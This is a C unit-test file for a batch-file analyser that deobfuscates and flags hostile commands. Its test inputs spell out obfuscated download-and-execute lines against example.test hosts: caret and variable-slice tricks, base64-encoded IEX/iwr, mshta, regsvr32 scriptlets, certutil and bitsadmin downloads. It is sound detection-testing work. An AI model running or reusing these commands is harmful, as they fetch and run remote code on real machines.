/* The command-line analyser, driven through batch files (a batch file is one command text):
 * deobfuscation (carets, variable slices and substitutions, blank padding, PowerShell backticks,
 * split strings, -EncodedCommand, FromBase64String) and what the command does. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static eg_report *scan_cmd(const char *cmd)
{
    char buf[8192];
    snprintf(buf, sizeof buf, "@echo off\r\n%s\r\n", cmd);
    eg_report *r = eg_test_scan(buf, strlen(buf), NULL);
    assert_non_null(r);
    return r;
}

static const char *evidence_of(const eg_report *r, const char *rule)
{
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (!strcmp(eg_rule_get(f->rule)->id, rule))
            return f->evidence ? f->evidence : "";
    }
    return NULL;
}

static void expect(const eg_report *r, const char *rule, const char *in_evidence)
{
    const char *ev = evidence_of(r, rule);
    if (!ev) {
        eg_test_dump(r);
        fail_msg("rule %s missing", rule);
    }
    if (in_evidence && !strstr(ev, in_evidence)) {
        eg_test_dump(r);
        fail_msg("%s evidence lacks \"%s\": %s", rule, in_evidence, ev);
    }
}

static void carets(void **st)
{
    (void)st;
    eg_report *r =
        scan_cmd("c^m^d /c p^o^w^e^r^s^h^e^l^l -c \"iwr http://a.example.test/x -OutFile "
                 "$env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe\"");
    expect(r, "CMD.CARET_OBFUSCATION", "powershell -c");
    expect(r, "CMD.DOWNLOAD_EXECUTE", NULL);
    expect(r, "CMD.DROPPED_FILE", "$env:TEMP\\x.exe");
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

static void variable_slices(void **st)
{
    (void)st;
    /* "powershell" spelled with slices of a variable set in the same line; the command decodes
     * to IEX(iwr http://x.example.test/p) */
    eg_report *r = scan_cmd(
        "set x=abcdefghijklmnopqrstuvwxyz&& call "
        "%x:~15,1%%x:~14,1%%x:~22,1%%x:~4,1%%x:~17,1%%x:~18,1%"
        "%x:~7,1%%x:~4,1%%x:~11,1%%x:~11,1% -e "
        "SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALgB0AGUAcwB0AC8AcAApAA==");
    expect(r, "CMD.ENV_OBFUSCATION", "call powershell -e");
    expect(r, "CMD.POWERSHELL_ENCODED", "IEX(iwr http://x.example.test/p)");
    expect(r, "CMD.INVOKE_EXPRESSION", NULL);
    expect(r, "CMD.DOWNLOAD_EXECUTE", "iwr http://x.example.test/p");
    eg_report_free(r);
}

static void comspec_slice_and_mshta(void **st)
{
    (void)st;
    eg_report *r = scan_cmd("%comspec:~-7,3% /c mshta http://h.example.test/page.hta");
    expect(r, "CMD.ENV_OBFUSCATION", "cmd /c mshta");
    expect(r, "CMD.MSHTA", "mshta http://h.example.test/page.hta");
    expect(r, "CMD.DOWNLOAD_EXECUTE", NULL);
    eg_report_free(r);
}

static void substitution_and_hidden(void **st)
{
    (void)st;
    eg_report *r = scan_cmd(
        "setlocal enabledelayedexpansion&& set a=pXwershell&& !a:X=o! -w 1 -ep bypass -file "
        "%APPDATA%\\u.ps1");
    expect(r, "CMD.ENV_OBFUSCATION", "powershell -w 1");
    expect(r, "CMD.HIDDEN_WINDOW", NULL);
    expect(r, "CMD.EXECUTION_POLICY_BYPASS", NULL);
    expect(r, "CMD.DROPPED_FILE", "%APPDATA%\\u.ps1");
    eg_report_free(r);
}

static void dll_loaders(void **st)
{
    (void)st;
    eg_report *r = scan_cmd("rundll32.exe C:\\Users\\Public\\x.dat,DllRegisterServer");
    expect(r, "CMD.RUNDLL32", "DLL \"C:\\Users\\Public\\x.dat\" export \"DllRegisterServer\"");
    assert_null(evidence_of(r, "CMD.DOWNLOAD_EXECUTE"));
    eg_report_free(r);
    r = scan_cmd("rundll32 \"C:\\Program Data\\a b.dll\",#1");
    expect(r, "CMD.RUNDLL32", "export \"#1\"");
    eg_report_free(r);
    r = scan_cmd("regsvr32 /s /n /u /i:http://h.example.test/file.sct scrobj.dll");
    expect(r, "CMD.REGSVR32", "DLL \"scrobj.dll\"");
    expect(r, "CMD.DOWNLOAD_EXECUTE", NULL);
    eg_report_free(r);
    r = scan_cmd("regsvr32.exe /s ..\\Vdfe.ooccxx");
    expect(r, "CMD.REGSVR32", "unusual extension");
    eg_report_free(r);
}

static void lolbin_downloads(void **st)
{
    (void)st;
    eg_report *r = scan_cmd(
        "bitsadmin /transfer job /download http://h.example.test/a.zip C:\\Users\\Public\\a.zip");
    expect(r, "CMD.DOWNLOAD", "bitsadmin");
    assert_null(evidence_of(r, "CMD.DOWNLOAD_EXECUTE"));
    eg_report_free(r);
    r = scan_cmd("certutil -urlcache -split -f http://h.example.test/b.txt b.txt && certutil "
                 "-decode b.txt b.exe && b.exe");
    expect(r, "CMD.DOWNLOAD", "certutil");
    expect(r, "CMD.CERTUTIL_DECODE", NULL);
    eg_report_free(r);
}

static void powershell_spelling(void **st)
{
    (void)st;
    eg_report *r = scan_cmd("powershell \"(New-Object Net.We`bCl`ie`nt).('Down'+'load'+'File')"
                            "('http://h.example.test/a','a.exe')\"");
    expect(r, "CMD.POWERSHELL_OBFUSCATION", "Net.WebClient).('DownloadFile')");
    expect(r, "CMD.DOWNLOAD", NULL);
    eg_report_free(r);
    r = scan_cmd("powershell -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("
                 "'aWV4IChpd3IgaHR0cDovL2IuZXhhbXBsZS50ZXN0L3gp')))\"");
    expect(r, "CMD.POWERSHELL_OBFUSCATION", "iex (iwr http://b.example.test/x)");
    expect(r, "CMD.DOWNLOAD_EXECUTE", "iwr http://b.example.test/x");
    eg_report_free(r);
}

static void findstr_self(void **st)
{
    (void)st;
    eg_report *r =
        scan_cmd("findstr \"gl.*\" \"%~f0\" > \"%TEMP%\\a.vbs\" & wscript \"%TEMP%\\a.vbs\"");
    expect(r, "CMD.FINDSTR_EXTRACT", NULL);
    expect(r, "CMD.SCRIPT_HOST", "\"wscript\" \"%TEMP%\\a.vbs\"");
    eg_report_free(r);
}

/* 400 KB of filler lines in front cannot push the command out of view */
static void long_batch(void **st)
{
    (void)st;
    size_t cap = 500u * 1024u, n = 0;
    char *b = malloc(cap);
    n += (size_t)snprintf(b, cap, "@echo off\r\n");
    while (n < 400u * 1024u)
        n += (size_t)snprintf(b + n, cap - n, "rem filler line %zu of the report generator\r\n", n);
    n += (size_t)snprintf(b + n, cap - n,
                          "powershell -c \"iwr http://late.example.test/a.exe -OutFile a.exe; "
                          "Start-Process a.exe\"\r\n");
    eg_report *r = eg_test_scan(b, n, NULL);
    expect(r, "CMD.DOWNLOAD_EXECUTE", "late.example.test");
    eg_report_free(r);
    free(b);
}

static void benign(void **st)
{
    (void)st;
    /* a parameter that merely starts with -e is not an encoded command */
    eg_report *e = scan_cmd("powershell -File build.ps1 -e ReleaseConfiguration");
    assert_null(evidence_of(e, "CMD.POWERSHELL_ENCODED"));
    eg_report_free(e);
    eg_report *r =
        scan_cmd("copy report.xlsx \\\\nas\\share\\\r\necho done\r\nfindstr /i total report.csv");
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const char *id = eg_rule_get(eg_report_finding(r, i)->rule)->id;
        if (!strncmp(id, "CMD.", 4)) {
            eg_test_dump(r);
            fail_msg("unexpected %s", id);
        }
    }
    eg_report_free(r);
}

/* A batch file that is one long token of "\temp\" (then a real dropped file): each token is
 * judged once per folder name (a token was once walked again for each of its 40 000 matches,
 * about 15 s for 240 KB). */
static void one_long_token(void **st)
{
    (void)st;
    size_t reps = 40000, n = 0, cap = reps * 6 + 256;
    char *b = malloc(cap);
    n += (size_t)snprintf(b, cap, "@echo off\r\n");
    for (size_t i = 0; i < reps; i++)
        n += (size_t)snprintf(b + n, cap - n, "\\temp\\");
    n += (size_t)snprintf(b + n, cap - n, "\r\ncopy a.txt %%TEMP%%\\drop.exe\r\n");
    eg_report *r = eg_test_scan(b, n, NULL);
    expect(r, "CMD.DROPPED_FILE", "%TEMP%\\drop.exe");
    eg_report_free(r);
    free(b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(carets),
        cmocka_unit_test(variable_slices),
        cmocka_unit_test(comspec_slice_and_mshta),
        cmocka_unit_test(substitution_and_hidden),
        cmocka_unit_test(dll_loaders),
        cmocka_unit_test(lolbin_downloads),
        cmocka_unit_test(powershell_spelling),
        cmocka_unit_test(findstr_self),
        cmocka_unit_test(long_batch),
        cmocka_unit_test(benign),
        cmocka_unit_test(one_long_token),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
